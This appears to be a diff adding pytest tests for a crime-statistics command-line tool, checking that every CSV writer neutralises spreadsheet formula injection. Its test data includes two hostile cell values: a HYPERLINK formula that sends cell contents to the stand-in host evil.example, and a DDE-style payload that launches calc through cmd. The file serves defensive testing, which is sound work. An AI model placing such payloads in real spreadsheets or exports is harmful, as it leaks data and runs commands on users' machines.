@@ -1,0 +1,170 @@
+"""Hostile outputs (issue 13): what the tool writes must be safe whatever the inputs say.
+
+CSV cells a spreadsheet would run as formulas are neutralised in every CSV writer; escape
+sequences never reach a terminal or a file; ``-o`` never replaces what it should write to;
+every SVG is well-formed XML, with names shown as written. Expected values are written out
+by hand from the inputs each test builds.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+from click.testing import CliRunner
+
+from policing_cli.cli import main
+
+LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def run(*args: object) -> object:
+    """The command's result, with a private cache folder per test (the autouse fixture)."""
+    return CliRunner().invoke(main, [str(a) for a in args])
+
+
+def write_counts(path: Path, rows: list[tuple[str, str, str, int]]) -> Path:
+    """A tidy counts file ``area,period,category,count`` (monthly periods), written with the
+    csv module so that any name, quotes and commas included, is one field."""
+    with path.open("w", newline="", encoding="utf-8") as out:
+        writer = csv.writer(out)
+        writer.writerow(["area", "period", "category", "count"])
+        writer.writerows(rows)
+    return path
+
+
+def monthly(area: str, category: str, per_month_2023: int, per_month_2024: int) -> list:
+    """Twelve months of 2023 and twelve of 2024, the same count each month."""
+    return [(area, f"2023-{m:02d}", category, per_month_2023) for m in range(1, 13)] + [
+        (area, f"2024-{m:02d}", category, per_month_2024) for m in range(1, 13)
+    ]
+
+
+# -- 1. CSV formula injection -----------------------------------------------------------------
+
+
+def formula_counts(tmp_path: Path) -> Path:
+    # LINK: 2 a month in 2023 (24), 1 a month in 2024 (12): change -12, -50%.
+    # SUM: 1 a month in 2023 (12), 2 a month in 2024 (24): change +12, +100%.
+    return write_counts(
+        tmp_path / "formulas.csv",
+        monthly(LINK, "+Robbery", 2, 1) + monthly(SUM, "+Robbery", 1, 2),
+    )
+
+
+def csv_rows(result) -> list[list[str]]:
+    assert result.exit_code == 0, result.output
+    return list(csv.reader(io.StringIO(result.stdout)))
+
+
+def assert_no_formula(rows: list[list[str]]) -> None:
+    """No cell a spreadsheet would run: text cells starting with a formula character are
+    quoted; a cell starting with "-" or "+" must be a plain number."""
+    for row in rows:
+        for cell in row:
+            if cell.startswith(FORMULA_START):
+                float(cell)  # a number (-12, -50.0) stays a number; anything else fails
+
+
+def test_rank_csv_quotes_formulas_and_writes_numbers(tmp_path):
+    data = formula_counts(tmp_path)
+    rows = csv_rows(run("rank", "--category", "+Robbery", "--period", "2024", "--data", data,
+                        "--format", "csv", "--no-cache"))  # fmt: skip
+    assert_no_formula(rows)
+    assert rows == [
+        ["rank", "area", "2024", "2023", "change", "pct_change", "pct_change_mark",
+         "per_1000_2024"],
+        ["1", "'" + LINK, "12", "24", "-12", "-50.0", "", ""],
+        ["2", "'" + SUM, "24", "12", "12", "100.0", "", ""],
+    ]  # fmt: skip
+
+
+def test_rank_text_keeps_its_rounded_percentages(tmp_path):
+    data = formula_counts(tmp_path)
+    result = run("rank", "--category", "+Robbery", "--period", "2024", "--data", data,
+                 "--format", "text", "--no-cache")  # fmt: skip
+    assert result.exit_code == 0, result.output
+    assert "-50.0%" in result.stdout and "+100.0%" in result.stdout
+
+
+def test_rank_csv_writes_a_break_mark_beside_the_number():
+    # The bundled 2010-2023 file: residential burglary's definition changed in April 2017,
+    # so every change of 2017/18 against 2016/17 is marked [b] (README, breaks table).
+    from tests.conftest import SAMPLE
+
+    data = SAMPLE / "MPS_Borough_Level_Crime_Historical_2010-04_to_2023-09.csv"
+    rows = csv_rows(run("rank", "--period", "2017/18", "--category", "Residential burglary",
+                        "--data", data, "--format", "csv"))  # fmt: skip
+    header = rows[0]
+    assert header[5:7] == ["pct_change", "pct_change_mark"]
+    ranked = [row for row in rows[1:] if row[0]]
+    assert ranked and all(row[6] == "[b]" for row in ranked)
+    assert all(float(row[5]) == float(row[5]) for row in ranked)  # a number, not "+5.0% [b]"
+
+
+def test_compare_csv_quotes_formulas_and_writes_numbers(tmp_path):
+    data = formula_counts(tmp_path)
+    rows = csv_rows(run("compare", LINK, SUM, "--period", "2024", "--data", data,
+                        "--format", "csv", "--no-cache"))  # fmt: skip
+    assert_no_formula(rows)
+    assert rows[0] == ["category", f"'{LINK} 2024", f"'{LINK} %", f"'{SUM} 2024", f"'{SUM} %"]
+    assert ["'+Robbery", "12", "-50.0", "24", "100.0"] in rows
+
+
+def test_areas_csv_quotes_formulas(tmp_path):
+    rows = csv_rows(run("areas", "--data", formula_counts(tmp_path), "--format", "csv",
+                        "--no-cache"))  # fmt: skip
+    assert_no_formula(rows)
+    assert [row[:2] for row in rows] == [
+        ["area", "kind"], ["'" + LINK, "borough"], ["'" + SUM, "borough"],
+    ]  # fmt: skip
+    assert rows[1][2:] == ["", "2023-01", "2024-12", "24", ""]
+
+
+def test_categories_csv_quotes_formulas(tmp_path):
+    rows = csv_rows(run("categories", "--data", formula_counts(tmp_path), "--format", "csv",
+                        "--no-cache"))  # fmt: skip
+    assert_no_formula(rows)
+    assert ["'+Robbery", "'+Robbery", ""] in rows
+
+
+def test_periods_csv_writes_numbers(tmp_path):
+    rows = csv_rows(run("periods", "--data", formula_counts(tmp_path), "--format", "csv",
+                        "--no-cache"))  # fmt: skip
+    assert_no_formula(rows)
+    assert ["2024", "calendar year", "Jan 2024 - Dec 2024", "12", "yes", ""] in rows
+
+
+def test_trend_csv_writes_numbers(tmp_path):
+    data = write_counts(tmp_path / "trend.csv", monthly(LINK, "-Robbery", 2, 1))
+    rows = csv_rows(run("trend", LINK, "--category", "-Robbery", "--months", "2",
+                        "--data", data, "--format", "csv", "--no-cache"))  # fmt: skip
+    assert_no_formula(rows)
+    # 2024-12: 1; the 12 months to it: 12 x 1 = 12. 2024-11: 1; 11 x 1 + 2 (2023-12) = 13.
+    assert rows == [["month", "count", "rolling_12_months"], ["2024-11", "1", "13"],
+                    ["2024-12", "1", "12"]]  # fmt: skip
+
+
+def test_report_csv_quotes_formulas_and_writes_numbers(tmp_path):
+    data = formula_counts(tmp_path)
+    rows = csv_rows(run("report", SUM, "--period", "2024", "--data", data, "--format", "csv",
+                        "--no-cache"))  # fmt: skip
+    assert_no_formula(rows)
+    robbery = next(row for row in rows if row[3] == "'+Robbery")
+    assert robbery[:8] == ["'" + SUM, "2024", "2023", "'+Robbery", "24", "12", "12", "100.0"]
+
+
+def test_one_function_neutralises_every_formula_start():
+    from fractions import Fraction
+
+    from policing_cli.renderers.escape import spreadsheet_cell
+
+    assert [spreadsheet_cell(t) for t in ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", " =1"]] == [
+        "'=1+1", "'+1", "'-1", "'@A1", "'\\x09=1", "'\\x0d=1", "' =1",
+    ]  # fmt: skip
+    assert [spreadsheet_cell(v) for v in [-5, Fraction(-1, 20), None, "# heading"]] == [
+        -5, -0.05, "", "# heading",
+    ]  # fmt: skip
